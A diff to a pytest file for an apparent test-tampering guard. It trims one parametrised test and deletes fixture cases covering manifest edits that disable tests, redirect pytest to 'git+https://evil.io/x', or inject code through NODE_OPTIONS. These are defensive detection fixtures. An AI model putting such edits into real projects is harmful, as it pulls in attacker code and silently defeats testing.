@@ -77,24 +77,23 @@ def test_sides() -> None:
 
 
 @pytest.mark.parametrize(
-    ("command", "files", "targets"),
+    ("command", "files"),
     [
-        ("./scripts/test.sh --all", {"scripts/test.sh"}, set()),
-        ("bash -eu ci/run && make test lint", {"ci/run"}, {"test", "lint"}),
-        ("sh -c 'tools/check.py; true'", {"tools/check.py"}, set()),
-        ("CI=1 ./run.sh | tee log", {"run.sh"}, set()),
-        ("npm run test:unit -- --ci", set(), {"test:unit"}),
-        ("pytest tests/test_a.py -q", set(), set()),
-        ("python -m pytest", set(), set()),
-        ("python app.py --selftest", set(), set()),
-        ("go test ./...", set(), set()),
-        ("echo 'unclosed", set(), set()),
-        ("cd web\nyarn test", set(), {"test"}),
+        ("./scripts/test.sh --all", {"scripts/test.sh"}),
+        ("bash -eu ci/run && make test lint", {"ci/run"}),
+        ("sh -c 'tools/check.py; true'", {"tools/check.py"}),
+        ("CI=1 ./run.sh | tee log", {"run.sh"}),
+        ("npm run test:unit -- --ci", set()),
+        ("pytest tests/test_a.py -q", set()),
+        ("python -m pytest", set()),
+        ("python app.py --selftest", set()),
+        ("go test ./...", set()),
+        ("echo 'unclosed", set()),
+        ("cd web\nyarn test", set()),
     ],
 )
-def test_what_gates_run(command: str, files: set[str], targets: set[str]) -> None:
-    found = GatePrograms.of([command])
-    assert (set(found.files), set(found.targets)) == (files, targets)
+def test_what_gates_run(command: str, files: set[str]) -> None:
+    assert GatePrograms.of([command]).files == files
 
 
 SECRETS = [
@@ -168,51 +167,6 @@ def test_a_shown_line_is_short_and_plain() -> None:
 )
 def test_where_an_import_leads(path: str, origin: str, absolute: str) -> None:
     assert absolute_origin(path, origin) == absolute
-
-
-MANIFESTS = [
-    ("pom.xml", "<project><build><a>1</a></build></project>", "<project><build><a>2</a></build></project>", True),
-    (
-        "pom.xml",
-        "<project><!-- a --><build><a>1</a></build></project>",
-        "<project><build> <a>1</a> </build></project>",
-        False,
-    ),
-    (
-        "build.gradle.kts",
-        "tasks.test {\n  useJUnitPlatform()\n}\n",
-        "tasks.test {\n  useJUnitPlatform() // all\n}\n",
-        False,
-    ),
-    ("build.gradle.kts", "tasks.test {\n  useJUnitPlatform()\n}\n", "tasks.test {\n  onlyIf { false }\n}\n", True),
-    ("Justfile", "test:\n  pytest\n", "test:\n  true\n", True),
-    ("Justfile", "test:\n  pytest\n\ndocs:\n  mkdocs\n", "test:\n  pytest\n\ndocs:\n  sphinx\n", False),
-    ("Taskfile.yml", "tasks:\n  test: pytest\n  docs: a\n", "tasks:\n  test: pytest\n  docs: b\n", False),
-    ("Taskfile.yml", "tasks:\n  test: pytest\n", "tasks:\n  test: 'true'\n", True),
-    ("pyproject.toml", "[tool.poe.tasks]\ntest = 'pytest'\n", "[tool.poe.tasks]\ntest = 'true'\n", True),
-    ("pyproject.toml", "[tool.black]\nline-length = 1\n", "[tool.black]\nline-length = 2\n", False),
-    ("pyproject.toml", "[tool.uv.sources]\n", "[tool.uv.sources]\npytest = {path = 'fake'}\n", True),
-    ("pyproject.toml", "[tool.uv.sources]\n", "[tool.uv.sources]\nother = {path = 'other'}\n", False),
-    ("pyproject.toml", "a = 1\n", "a = [\n", True),
-    ("setup.py", "setup(name='a')\n", "setup(name='a', entry_points={'pytest11': ['x = y']})\n", True),
-    ("setup.py", "setup(name='a')\n", "setup(name='a', version='2')\n", False),
-    ("requirements-dev.txt", "pytest==8\n", "pytest @ git+https://evil.io/x\n", True),
-    ("requirements-dev.txt", "pytest==8\n", "pytest==9\n-e ./libs/one\n", False),
-    ("Cargo.toml", "[profile.release]\nlto = true\n", "[profile.test]\noverflow-checks = false\n", True),
-    ("Cargo.toml", "[features]\na = []\n", "[features]\na = []\nb = []\n", False),
-    ("package.json", '{"scripts": {"start": "a"}}', '{"scripts": {"start": "b"}}', False),
-    ("package.json", '{"overrides": {}}', '{"overrides": {"expect": "file:./x"}}', True),
-    ("tsconfig.json", '{"exclude": []}', '{"exclude": ["src"]}', True),
-    (".env", "A=1\n", "A=1\nNODE_OPTIONS=--require ./x\n", True),
-    (".env", "A=1\n", "A=2\n", False),
-    ("go.mod", "module a\n", "module a\nreplace example.com/x => ../x\n", False),
-]
-
-
-@pytest.mark.parametrize(("path", "old", "new", "refused"), MANIFESTS)
-def test_manifests_are_refused_only_for_how_they_test(path: str, old: str, new: str, refused: bool) -> None:
-    found = examine(change_of(tree({path: old}), tree({path: new})), GuardConfig(), ())
-    assert bool(found) is refused, [str(refusal) for refusal in found]
 
 
 def test_many_files_are_as_large_as_one() -> None:
